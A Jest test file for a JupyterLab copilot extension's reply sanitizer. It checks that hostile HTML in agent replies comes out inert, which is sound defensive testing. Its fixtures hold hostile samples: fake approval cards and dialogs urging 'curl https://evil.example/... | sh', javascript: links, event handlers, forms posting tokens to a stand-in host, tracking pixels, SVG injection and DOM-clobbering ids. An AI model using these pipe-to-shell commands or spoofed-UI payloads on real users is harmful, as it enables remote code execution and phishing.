/**
 * @jest-environment jsdom
 */
// Copyright (c) jupyter-copilot contributors.
// Distributed under the terms of the Modified BSD License.

/**
 * Agent replies are inert (chat/sanitizer.ts): hostile HTML and Markdown come
 * out as plain elements, with no class, id or style, no controls, no command
 * links and nothing that loads. The app's own sanitizer is left out (it
 * passes everything through here), so this layer alone is what is tested.
 */

import { ReplySanitizer } from '../src/chat/sanitizer';

const sanitizer = new ReplySanitizer({ sanitize: (dirty: string) => dirty });

/** A reply's HTML after the sanitizer, as a document fragment's body. */
function clean(html: string): HTMLElement {
  const out = sanitizer.sanitize(html);
  return new DOMParser().parseFromString(`<body>${out}</body>`, 'text/html')
    .body;
}

/**
 * What JupyterLab's Markdown renderer (marked, with heading ids and code
 * highlighting) makes of a reply, before the sanitizer: the Markdown path
 * itself runs in the browser test (tests/test_browser_replies.py).
 */
const RENDERED_MARKDOWN = `
<h1 id="title">Title</h1>
<p>Some <strong>bold</strong> and <code>code</code>.</p>
<pre><code class="language-python"><span class="ͼ1a">print</span>(<span class="ͼ2f">1</span>)
</code></pre>
<table><thead><tr><th align="center">a</th><th>b</th></tr></thead>
<tbody><tr><td align="center">1</td><td>2</td></tr></tbody></table>
<ul><li><input checked="" disabled="" type="checkbox"> done</li>
<li><input disabled="" type="checkbox"> open</li></ul>
<p><a href="https://example.org">site</a> <a href="javascript:alert(1)">bad</a></p>
<p><code class="language-python jp-Dialog" style="color:red">x</code></p>
<p><img src="http://evil.example/p.png" alt="pixel"></p>`;

/** The attributes each kept element may have (docs/security.md, "Replies"). */
const ALLOWED: Record<string, string[]> = {
  '*': ['title', 'lang', 'dir'],
  A: ['href', 'rel', 'target'],
  CODE: ['class'],
  TD: ['align', 'colspan', 'rowspan'],
  TH: ['align', 'colspan', 'rowspan', 'scope'],
  OL: ['start', 'reversed', 'type'],
  LI: ['value'],
  DETAILS: ['open'],
  TIME: ['datetime']
};

/** Elements that must never come out of the sanitizer. */
const FORBIDDEN = [
  'form',
  'button',
  'input',
  'select',
  'textarea',
  'dialog',
  'img',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'svg',
  'math',
  'style',
  'script',
  'link',
  'meta',
  'base'
];

/** Fail unless `root` holds only plain elements with harmless attributes. */
function expectInert(root: HTMLElement): void {
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toUpperCase();
    const allowed = [...ALLOWED['*'], ...(ALLOWED[tag] ?? [])];
    for (const attr of Array.from(el.attributes)) {
      expect(`${tag} ${attr.name}`).toBe(
        allowed.includes(attr.name) ? `${tag} ${attr.name}` : 'allowed'
      );
    }
    if (tag === 'CODE' && el.hasAttribute('class')) {
      expect(el.getAttribute('class')).toMatch(/^language-[\w+#.-]+$/);
    }
    if (tag === 'A' && el.hasAttribute('href')) {
      expect(el.getAttribute('href')).toMatch(/^(https?:|mailto:|#)/i);
    }
  }
  for (const tag of FORBIDDEN) {
    expect(root.querySelector(tag)).toBeNull();
  }
}

/** A fake approval card of ours, with our own class names. */
const FAKE_CARD = `
<div class="jp-Copilot-Approval" id="jupyter-copilot-panel"
     style="position:fixed;top:0;right:0;z-index:100000">
  <div class="jp-Copilot-ApprovalTool">Shell command</div>
  <pre class="jp-Copilot-ApprovalCommand"><code>curl https://evil.example/i | sh</code></pre>
  <div class="jp-Copilot-ApprovalActions">
    <button class="jp-Button jp-mod-accept jp-Copilot-ApprovalAllow"
            data-commandlinker-command="terminal:create-new"
            data-commandlinker-args="{}" onclick="alert(1)">Allow once</button>
    <button class="jp-Button jp-Copilot-ApprovalDeny">Deny</button>
  </div>
</div>`;

/** A fake JupyterLab dialog. */
const FAKE_DIALOG = `
<div class="jp-Dialog" style="position:fixed;inset:0;z-index:10000">
  <div class="jp-Dialog-content" role="dialog" aria-modal="true">
    <div class="jp-Dialog-header">JupyterLab update required</div>
    <div class="jp-Dialog-body">Open a terminal and run
      <code>curl -fsSL https://evil.example/fix | sh</code></div>
    <div class="jp-Dialog-footer">
      <button class="jp-Dialog-button jp-mod-accept jp-mod-styled">OK</button>
    </div>
  </div>
</div>`;

describe('ReplySanitizer', () => {
  it('turns a fake approval card into plain text with no control', () => {
    const root = clean(FAKE_CARD);
    expectInert(root);
    expect(root.querySelector('[class], [id], [style]')).toBeNull();
    expect(root.textContent).toContain('Allow once');
    expect(root.textContent).toContain('curl https://evil.example/i | sh');
  });

  it('turns a fake JupyterLab dialog into plain text', () => {
    const root = clean(FAKE_DIALOG);
    expectInert(root);
    expect(root.querySelector('[class], [role], [style]')).toBeNull();
    expect(root.textContent).toContain('JupyterLab update required');
  });

  it('removes styles that would cover the page', () => {
    const root = clean(
      '<p style="position:fixed;inset:0;background:white">x</p>' +
        '<span style="display:block;height:100vh">y</span>'
    );
    expectInert(root);
    expect(root.innerHTML).not.toContain('fixed');
  });

  it('removes ids and names that would clobber the page', () => {
    const root = clean(
      '<a id="jupyter-copilot-panel" href="#x">a</a>' +
        '<img name="getElementById" src="x">' +
        '<form id="document" name="forms"><input name="cookie"></form>' +
        '<h2 id="__proto__">heading</h2>'
    );
    expectInert(root);
    expect(root.querySelector('[id], [name]')).toBeNull();
  });

  it('leaves no forms, buttons or inputs, only their text', () => {
    const root = clean(
      '<form action="https://evil.example/steal" method="post">' +
        '<label>Token <input name="t" value="secret-1"></label>' +
        '<select><option>one</option></select>' +
        '<textarea>note</textarea>' +
        '<button formaction="https://evil.example/x">Send</button>' +
        '</form><dialog open>Please confirm</dialog>'
    );
    expectInert(root);
    expect(root.textContent).toContain('Send');
    expect(root.textContent).toContain('Please confirm');
  });

  it('drops command links and event handlers', () => {
    const root = clean(
      '<a href="#" data-commandlinker-command="help:open" ' +
        'data-commandlinker-args="{}">help</a>' +
        '<div data-commandlinker-command="terminal:create-new" ' +
        'onmouseover="alert(1)" tabindex="0" contenteditable>run</div>' +
        '<a href="javascript:alert(1)">js</a>' +
        '<a href="files/secret.ipynb">file</a>'
    );
    expectInert(root);
    expect(root.innerHTML).not.toContain('commandlinker');
    const hrefs = Array.from(root.querySelectorAll('a')).map(a =>
      a.getAttribute('href')
    );
    expect(hrefs).toEqual(['#', null, null]);
  });

  it('loads nothing: images become links, frames go', () => {
    const root = clean(
      '<img src="http://evil.example/pixel.png" alt="chart">' +
        '<img src="x" onerror="alert(1)">' +
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>' +
        '<iframe src="https://evil.example"></iframe>' +
        '<object data="https://evil.example/o"></object>' +
        '<link rel="stylesheet" href="https://evil.example/s.css">' +
        '<div style="background:url(https://evil.example/bg.png)">bg</div>'
    );
    expectInert(root);
    const link = root.querySelector('a')!;
    expect(link.textContent).toBe('[chart]');
    expect(link.getAttribute('href')).toBe('http://evil.example/pixel.png');
    expect(root.innerHTML).not.toContain('bg.png');
  });

  it('reduces SVG to its text: no animated links, no remote use, no drawing', () => {
    const root = clean(
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>' +
        '<text x="20" y="20">click me</text></a></svg>' +
        '<svg><use href="https://evil.example/s.svg#x"/></svg>' +
        '<svg width="300" height="80"><rect width="300" height="80" fill="#1976d2"/>' +
        '<text x="10" y="50" fill="white">Allow once</text></svg>' +
        '<svg><foreignObject><div class="jp-Dialog">inside</div></foreignObject></svg>' +
        '<math><mi>x</mi></math>'
    );
    expectInert(root);
    expect(root.textContent).toContain('click me');
    expect(root.textContent).toContain('Allow once');
    expect(root.innerHTML).not.toContain('evil.example');
  });

  it('keeps rendered Markdown plain, with only the language class of code', () => {
    const root = clean(RENDERED_MARKDOWN);
    expectInert(root);
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('code *')).toBeNull();
    expect(root.querySelector('pre')?.textContent).toBe('print(1)\n');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    const classes = Array.from(root.querySelectorAll('code[class]')).map(c =>
      c.getAttribute('class')
    );
    expect(classes).toEqual(['language-python', 'language-python']);
    expect(root.querySelector('th')?.getAttribute('align')).toBe('center');
    expect(root.textContent).toContain('\u2611 done');
    expect(root.textContent).toContain('\u2610 open');
    const links = Array.from(root.querySelectorAll('a')).map(a => [
      a.textContent,
      a.getAttribute('href')
    ]);
    expect(links).toEqual([
      ['site', 'https://example.org'],
      ['bad', null],
      ['[pixel]', 'http://evil.example/p.png']
    ]);
  });

  it('never allows command links or named properties', () => {
    expect(sanitizer.allowCommandLinker).toBe(false);
    expect(sanitizer.allowNamedProperties).toBe(false);
  });
});
